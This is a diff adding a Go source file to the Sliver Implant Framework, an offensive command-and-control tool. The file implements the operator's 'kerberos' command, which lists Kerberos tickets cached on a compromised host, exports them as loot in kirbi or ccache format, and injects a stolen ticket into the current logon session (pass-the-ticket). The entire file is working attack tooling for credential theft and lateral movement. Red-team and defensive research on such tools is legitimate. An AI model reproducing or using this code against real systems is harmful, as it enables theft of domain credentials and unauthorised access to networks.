@@ -0,0 +1,193 @@
+package command
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"context"
+	"fmt"
+	"io/ioutil"
+	"os"
+	"strings"
+	"text/tabwriter"
+	"time"
+
+	"github.com/bishopfox/sliver/protobuf/rpcpb"
+	"github.com/bishopfox/sliver/protobuf/sliverpb"
+
+	"github.com/desertbit/grumble"
+)
+
+var (
+	kerberosEncryptionTypes = map[int32]string{
+		1:  "des-cbc-crc",
+		3:  "des-cbc-md5",
+		17: "aes128-cts",
+		18: "aes256-cts",
+		23: "rc4-hmac",
+		24: "rc4-hmac-exp",
+	}
+
+	kerberosTicketFlags = []struct {
+		flag uint32
+		name string
+	}{
+		{0x40000000, "forwardable"},
+		{0x20000000, "forwarded"},
+		{0x10000000, "proxiable"},
+		{0x08000000, "proxy"},
+		{0x00800000, "renewable"},
+		{0x00400000, "initial"},
+		{0x00200000, "pre-authent"},
+		{0x00040000, "ok-as-delegate"},
+		{0x00010000, "name-canonicalize"},
+	}
+)
+
+func kerberos(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
+	session := ActiveSession.GetInteractive()
+	if session == nil {
+		return
+	}
+	operation := "ls"
+	if 0 < len(ctx.Args) {
+		operation = strings.ToLower(ctx.Args[0])
+	}
+	switch operation {
+	case "ls":
+		kerberosTickets(ctx, rpc, false)
+	case "export":
+		kerberosTickets(ctx, rpc, true)
+	case "inject":
+		kerberosInject(ctx, rpc)
+	default:
+		fmt.Println(Warn + "Invalid subcommand, see 'help kerberos'")
+	}
+}
+
+func kerberosTickets(ctx *grumble.Context, rpc rpcpb.SliverRPCClient, export bool) {
+	format := strings.ToLower(ctx.Flags.String("format"))
+	if format != "kirbi" && format != "ccache" {
+		fmt.Printf(Warn+"Invalid format '%s', use kirbi or ccache\n", format)
+		return
+	}
+	tickets, err := rpc.KerberosTickets(context.Background(), &sliverpb.KerberosTicketsReq{
+		Export:     export,
+		ServerName: ctx.Flags.String("server"),
+		Format:     format,
+		Request:    ActiveSession.Request(ctx),
+	})
+	if err != nil {
+		fmt.Printf(Warn+"%s\n", err)
+		return
+	}
+	if tickets.Response != nil && tickets.Response.Err != "" {
+		fmt.Printf(Warn+"%s\n", tickets.Response.Err)
+		return
+	}
+	if len(tickets.Tickets) == 0 {
+		fmt.Printf(Info + "No cached tickets\n")
+		return
+	}
+
+	table := tabwriter.NewWriter(os.Stdout, 0, 2, 2, ' ', 0)
+	fmt.Fprintf(table, "Client\tServer\tEncryption\tStart\tEnd\tRenew Until\tFlags\t\n")
+	fmt.Fprintf(table, "%s\t%s\t%s\t%s\t%s\t%s\t%s\t\n",
+		strings.Repeat("=", len("Client")),
+		strings.Repeat("=", len("Server")),
+		strings.Repeat("=", len("Encryption")),
+		strings.Repeat("=", len("Start")),
+		strings.Repeat("=", len("End")),
+		strings.Repeat("=", len("Renew Until")),
+		strings.Repeat("=", len("Flags")),
+	)
+	exported := []*sliverpb.KerberosTicket{}
+	for _, ticket := range tickets.Tickets {
+		encryption, ok := kerberosEncryptionTypes[ticket.EncryptionType]
+		if !ok {
+			encryption = fmt.Sprintf("%d", ticket.EncryptionType)
+		}
+		fmt.Fprintf(table, "%s@%s\t%s@%s\t%s\t%s\t%s\t%s\t%s\t\n",
+			ticket.ClientName, ticket.ClientRealm,
+			ticket.ServerName, ticket.ServerRealm,
+			encryption,
+			kerberosTime(ticket.StartTime),
+			kerberosTime(ticket.EndTime),
+			kerberosTime(ticket.RenewTime),
+			kerberosFlags(ticket.Flags),
+		)
+		if ticket.LootID != "" {
+			exported = append(exported, ticket)
+		}
+	}
+	table.Flush()
+
+	if export {
+		fmt.Println()
+		if len(exported) == 0 {
+			fmt.Printf(Warn + "No ticket could be exported\n")
+			return
+		}
+		for _, ticket := range exported {
+			fmt.Printf(Info+"Saved %s ticket to loot %s\n", ticket.ServerName, ticket.LootID)
+		}
+		fmt.Printf(Info+"Use 'loot fetch' to save the %s files locally\n", format)
+	}
+}
+
+func kerberosInject(ctx *grumble.Context, rpc rpcpb.SliverRPCClient) {
+	if len(ctx.Args) < 2 {
+		fmt.Println(Warn + "Missing ticket file (kirbi or ccache), see 'help kerberos'")
+		return
+	}
+	ticket, err := ioutil.ReadFile(ctx.Args[1])
+	if err != nil {
+		fmt.Printf(Warn+"%s\n", err)
+		return
+	}
+	inject, err := rpc.KerberosInject(context.Background(), &sliverpb.KerberosInjectReq{
+		Ticket:  ticket,
+		Request: ActiveSession.Request(ctx),
+	})
+	if err != nil {
+		fmt.Printf(Warn+"%s\n", err)
+		return
+	}
+	if inject.Response != nil && inject.Response.Err != "" {
+		fmt.Printf(Warn+"%s\n", inject.Response.Err)
+		return
+	}
+	fmt.Printf(Info+"Imported %s into the current logon session\n", ctx.Args[1])
+}
+
+func kerberosTime(timestamp int64) string {
+	if timestamp == 0 {
+		return ""
+	}
+	return time.Unix(timestamp, 0).Format("2006-01-02 15:04:05")
+}
+
+func kerberosFlags(flags uint32) string {
+	names := []string{}
+	for _, ticketFlag := range kerberosTicketFlags {
+		if flags&ticketFlag.flag != 0 {
+			names = append(names, ticketFlag.name)
+		}
+	}
+	return strings.Join(names, ", ")
+}